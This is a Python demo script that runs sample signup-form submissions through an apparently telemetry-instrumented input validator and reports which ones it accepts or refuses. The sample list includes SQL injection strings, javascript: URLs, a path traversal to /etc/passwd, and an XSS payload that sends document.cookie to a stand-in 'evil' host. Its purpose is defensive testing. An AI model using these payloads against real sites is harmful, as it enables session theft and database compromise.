"""Demo scene: a signup form under attack.

Ordinary submissions pass; XSS and SQL-injection attempts fail with a rule
id, each failure counted in ``validation.failures`` and recorded as a
``validation.failed`` span event (rule ids, length, hash; never the input).
"""

from __future__ import annotations

from typing import Any

from otelprod._telemetry import tracer
from otelprod.validation import ContentSanitizer, validate_user_input

TITLE = "validation: a signup form under attack"

SUBMISSIONS: list[tuple[str, Any, str]] = [
    ("username", "jane_doe", "string"),
    ("username", "admin' OR '1'='1' --", "string"),
    ("email", "Jane.O'Neil@Example.com", "email"),
    ("email", "x%27%20UNION%20SELECT%20password%20FROM%20users--@evil.test", "email"),
    ("homepage", "https://bücher.example/päth?q=1", "url"),
    ("homepage", "javascript:alert(document.cookie)", "url"),
    ("age", "42", "int"),
    ("age", "NaN", "int"),
    ("avatar", "../../etc/passwd", "filename"),
    ("bio", '<b>Hi!</b> <img src=x onerror="fetch(\'//evil/\'+document.cookie)">', "html"),
    ("search", "%3Csvg%2Fonload%3Dalert(1)%3E", "string"),
    ("comment", "How do I stop ' OR 1=1 -- in my app?", "text"),
]


def run(out: Any) -> None:
    accepted = refused = 0
    for field, value, input_type in SUBMISSIONS:
        with tracer.start_as_current_span(f"validate {field}"):
            result = validate_user_input(value, input_type=input_type)
        rules = ", ".join(f.rule for f in result.findings) or "-"
        if result.is_valid:
            accepted += 1
            note = f" (warnings: {'; '.join(result.warnings)})" if result.warnings else ""
            out.step(f"accepted {field:<9} {input_type:<8} -> {result.sanitized_value!r}{note}")
        else:
            refused += 1
            out.step(f"refused  {field:<9} {input_type:<8} rules: {rules}; {result.errors[0]}")
    safe = ContentSanitizer.sanitize_html('<p onclick="x()">hello <script>evil()</script></p>')
    out.step(f"sanitize_html(strict) -> {safe!r}")
    out.step(f"{accepted} accepted, {refused} refused; see validation.failed events in Jaeger")
